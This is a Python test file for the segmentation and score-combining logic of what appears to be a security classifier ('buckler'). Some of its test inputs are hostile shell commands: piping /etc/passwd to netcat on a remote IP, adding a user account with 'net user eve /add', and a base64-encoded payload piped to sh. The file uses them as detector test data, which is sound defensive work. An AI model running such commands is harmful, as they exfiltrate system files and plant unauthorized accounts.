"""Segments: what is cut where, and that the kernel combines scores as NumPy does."""

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from buckler import _kernel
from buckler.errors import BundleError
from buckler.normalize import NormalizedTexts, get_normalizer
from buckler.normalize.segments import COMBINATIONS, SEGMENTERS, SegmentRule

long_fields = st.binary(max_size=1500).map(lambda data: data.replace(b"\x1f", b" "))


def cut(text: bytes, segmenter: str) -> list[bytes]:
    return list(SegmentRule(segmenter, "max").cut(NormalizedTexts.from_bytes([text])).texts)


def cut_command(command: str) -> list[bytes]:
    return cut(get_normalizer("command-v2").normalize(command, 4096), "commands")


@pytest.mark.parametrize(
    ("command", "segments"),
    [
        ("apt-get update && rm -rf /tmp/x", [b"apt-get update", b"rm -rf /tmp/x"]),
        ("dir c:\\temp || echo nothing", [b"dir c:\\temp", b"echo nothing"]),
        ("cat /etc/passwd | nc 10.1.2.3 80; whoami", None),
        ("make all 2>&1 > build.log", [b"make all 2>&1 > build.log"]),
        ("make all &> build.log", [b"make all &> build.log"]),
        ("ls;ls;ls;net user eve /add", [b"ls;ls;ls", b"net user eve /add"]),
        ("; ; && ", []),
        ("", []),
    ],
)
def test_commands_are_cut_where_a_shell_ends_them(command, segments):
    found = cut_command(command)
    if segments is None:
        assert len(found) == 3
        assert found[-1] == b"whoami"
    else:
        assert found == segments


def test_a_decoded_payload_is_a_command_of_its_own():
    segments = cut_command("echo bmV0IHVzZXIgZXZlIFB3ITIgL2FkZCAmJiBuZXQgdmlldw== | base64 -d | sh")
    assert {b"net user eve pw!2 /add", b"net view"} <= set(segments)


def test_context_is_in_no_segment():
    assert cut_command("whoami\x1fwinword.exe\x1fcmd.exe\x1fSYSTEM") == [b"whoami"]


def test_long_texts_are_cut_into_windows_at_spaces():
    words = b"subject\x1f" + b" ".join(b"word%d" % i for i in range(400))
    segments = cut(words, "windows")
    assert segments[0] == b"subject"
    assert all(segment.startswith(b"\x1f") and len(segment) <= 513 for segment in segments[1:])
    assert b" ".join(segment[1:] for segment in segments[1:]) == words.partition(b"\x1f")[2]
    assert [len(s) for s in cut(b"x" * 1200, "windows")] == [512, 512, 176]
    assert max(map(len, cut_command("x" * 3000))) == 512


@pytest.mark.parametrize("rest", ["/b/c.php?d=1", "/?d=1", "/#e", "/b@c"])
def test_the_host_of_an_address_is_a_url_of_its_own(rest):
    url = get_normalizer("url-v3")
    alone = url.normalize("https://a.example:8080", 768)
    assert cut(url.normalize("https://a.example:8080" + rest, 768), "host") == [alone]
    assert cut(url.normalize("https://user@a.example:8080/" + rest, 768), "host") == [alone]
    assert cut(alone, "host") == []


def test_heads_of_a_text_end_at_spaces_of_its_last_field():
    body = b" ".join(b"word%d" % i for i in range(400))
    heads = cut(b"subject\x1fmarks\x1f" + body, "head")
    assert len(heads) == 8
    for head, most in zip(heads, range(125, 1001, 125), strict=True):
        assert head.startswith(b"subject\x1fmarks\x1fword0 ") and body.startswith(head[14:] + b" ")
        assert most - 64 < len(head) - 14 <= most
    assert len(cut(b"subject\x1fmarks\x1f" + body[:1064], "head")) == 7
    assert cut(b"subject\x1fmarks\x1f" + body[:189], "head") == []
    assert cut(b"x" * 1200, "head") == [b"x" * n for n in range(125, 1001, 125)]


def test_nothing_is_cut_without_a_rule():
    assert cut(b"a && b", "none") == []


@given(st.lists(st.binary(max_size=1500), max_size=4), st.sampled_from(SEGMENTERS[:3]))
def test_segments_are_pieces_of_their_texts_in_order(raw, segmenter):
    texts = NormalizedTexts.from_bytes(raw)
    segments = SegmentRule(segmenter, "max").cut(texts)
    last = (0, 0)
    for segment, owner, shift in zip(segments.texts, segments.owners, segments.shifts, strict=True):
        field = len(segment) - len(segment.lstrip(b"\x1f"))
        begin = int(shift) + field
        assert texts[owner][begin : int(shift) + len(segment)] == segment[field:]
        assert (int(owner), begin) >= last
        last = (int(owner), begin + 1)
        assert field < 8
        assert len(segment) > field


@pytest.mark.parametrize("classes", [1, 3])
@pytest.mark.parametrize("combination", COMBINATIONS)
@given(
    st.lists(st.binary(max_size=900) | long_fields, min_size=1, max_size=4),
    st.sampled_from([(1, 4), (3, 5), (2, 8)]),
)
def test_the_kernel_combines_the_logits_of_text_and_segments(classes, combination, raw, orders):
    rng = np.random.default_rng(7)
    width = 1 if classes == 1 else 16
    table = rng.integers(-127, 128, (1 << 10, width)).astype(np.int8)
    bias = rng.standard_normal(classes).astype(np.float32)

    def outputs(texts: NormalizedTexts, *settings: float) -> np.ndarray:
        model = _kernel.Ngram(
            0, 1 << 12, *orders, 10, width, classes, 0.01, table, None, bias, *settings
        )
        column = texts.to_arrow()
        found = np.empty((len(texts), classes), np.float32)
        model.score_column(*column.__arrow_c_array__(), 0, len(texts), found, True)
        return found

    for segmenter in SEGMENTERS[1:]:
        texts, rule = NormalizedTexts.from_bytes(raw), SegmentRule(segmenter, combination, 2)
        expected = rule.event_logits(texts, outputs)
        found = outputs(texts, *rule.numbers)
        if combination == "soft":  # its weights are of the kernel's own e^x
            assert np.allclose(found, expected, rtol=1e-5, atol=1e-6)
        else:
            assert np.array_equal(found, expected)


def test_a_soft_mean_weighs_heads_by_score_and_the_whole_text_little():
    body = b" ".join(b"word%d" % i for i in range(400))
    logit_of = {125 * k: 4.0 - k for k in range(1, 9)} | {len(body): -8.0}

    def logits(texts: NormalizedTexts) -> np.ndarray:
        nearest = [min(n for n in logit_of if n >= len(text)) for text in texts]
        return np.array([[logit_of[n]] for n in nearest], np.float32)

    def soft_mean(values: np.ndarray, shares: list[float]) -> float:
        weights = shares * np.exp(values / 2)
        return weights @ values / weights.sum()

    rule = SegmentRule("head", "soft", 2, temperature=2.0)
    texts = NormalizedTexts.from_bytes([body, body[:440], b"short"])
    found = rule.event_logits(texts, logits)[:, 0]
    values, shares = np.array([*(4.0 - np.arange(1, 9)), -8]), [*[1.0] * 8, 1 / 16]
    assert found[0] == pytest.approx(soft_mean(values, shares))
    # Too short for five of the heads.
    assert found[1] == pytest.approx(soft_mean(values[:4], [1, 1, 1, 5 + 1 / 16]))
    assert found[2] == 3
    parts = rule.scored_parts(body, logits)
    weights = shares * np.exp(values / 2)
    assert [share for *_, share in parts] == pytest.approx(np.roll(weights / weights.sum(), 1))


@given(
    st.lists(st.floats(-(2.0**40), 2.0**40, width=32), min_size=2, max_size=2), st.floats(0.01, 100)
)
def test_a_soft_mean_lies_between_its_logits(values, temperature):
    text = b"subject\x1f" + b"x" * 125 + b" " + b"y" * 100

    def logits(texts: NormalizedTexts) -> np.ndarray:
        return np.array([[values[len(t) > 150]] for t in texts], np.float32)

    rule = SegmentRule("head", "soft", 2, temperature)
    (found,) = rule.event_logits(NormalizedTexts.from_bytes([text]), logits)[0]
    assert min(values) * (1 - 1e-6 * np.sign(min(values))) <= found
    assert found <= max(values) * (1 + 1e-6 * np.sign(max(values)))


@pytest.mark.parametrize(
    "settings",
    [
        {"segmenter": "head", "combination": "hard"},
        {"segmenter": "tail", "combination": "soft"},
        {"segmenter": "head", "combination": "soft", "temperature": "4"},
        {},
    ],
)
def test_settings_of_no_rule_are_refused(settings):
    with pytest.raises(BundleError, match="student settings"):
        SegmentRule.from_settings(settings, 2)


@given(st.sampled_from(SEGMENTERS), st.sampled_from(COMBINATIONS), st.floats(0.1, 10))
def test_settings_of_a_rule_give_it_again(segmenter, combination, temperature):
    rule = SegmentRule(segmenter, combination, 6, temperature)
    again = SegmentRule.from_settings(rule.settings, 6)
    assert again.numbers[:3] == rule.numbers[:3]
    assert combination != "soft" or again == rule


@pytest.mark.parametrize("temperature", [0.0, -1.0, np.nan, np.inf])
def test_a_soft_mean_needs_a_temperature(temperature):
    table, bias = np.zeros(1 << 4, np.int8), np.zeros(1, np.float32)
    with pytest.raises(ValueError, match="temperature"):
        _kernel.Ngram(0, 512, 1, 3, 4, 1, 1, 0.1, table, None, bias, 1, 3, 2, temperature)


def test_a_model_without_a_positive_class_combines_nothing():
    table, bias = np.zeros(1 << 4, np.int8), np.zeros(1, np.float32)
    for settings in [(1, 1, 0), (0, 1, 2), (9, 1, 2), (1, 9, 2)]:
        with pytest.raises(ValueError, match=r"segment"):
            _kernel.Ngram(0, 512, 1, 3, 4, 1, 1, 0.1, table, None, bias, *settings)
